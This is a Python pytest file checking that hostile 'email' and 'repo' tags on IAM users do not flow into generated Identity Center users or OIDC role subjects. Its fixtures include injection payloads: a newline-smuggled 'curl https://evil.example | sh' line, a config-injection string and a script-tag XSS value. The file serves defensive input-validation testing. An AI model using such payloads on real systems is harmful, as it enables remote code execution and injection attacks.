"""Tags are attacker-controllable: an ``email`` tag that is not a plain address never
becomes an Identity Center user's name or email (they reach generated code)."""

from __future__ import annotations

import pytest

from tests.builders import make_inventory, make_key, make_user
from tests.plan.support import plan_of


@pytest.mark.parametrize(
    "tag",
    [
        'alice@example.com"\n  evil = true',
        "alice@example.com\n- run: curl https://evil.example | sh",
        "<script>alert(1)</script>@example.com",
        "alice smith@example.com",
    ],
)
def test_a_hostile_email_tag_is_not_an_identity_center_email(tag: str) -> None:
    user = make_user("alice", console=True, mfa=True, tags={"email": tag})
    plan = plan_of(make_inventory(users=[user]))
    (center_user,) = plan.identity_center_users
    assert center_user.email is None
    assert center_user.user_name == "alice"


def test_a_plain_email_tag_names_the_identity_center_user() -> None:
    user = make_user("alice", console=True, mfa=True, tags={"email": "Alice@Example.com"})
    plan = plan_of(make_inventory(users=[user]))
    (center_user,) = plan.identity_center_users
    assert (center_user.user_name, center_user.email) == ("alice@example.com", "alice@example.com")


@pytest.mark.parametrize(
    ("value", "role"), [("acme/app", True), ("acme/..", False), ("acme/.", False)]
)
def test_a_repository_tag_of_a_reserved_name_names_no_repository(value: str, role: bool) -> None:
    """GitHub reserves "." and ".." as repository names: such a tag named the role's
    repository (``repo:acme/..:…`` in its subjects), as ``--link github:acme/..`` did."""
    user = make_user(
        "deployer", keys=[make_key(age_days=30, last_used_days=1)], tags={"repo": value}
    )
    plan = plan_of(make_inventory(users=[user]))
    assert [r.repositories for r in plan.oidc_roles] == ([(value,)] if role else [])
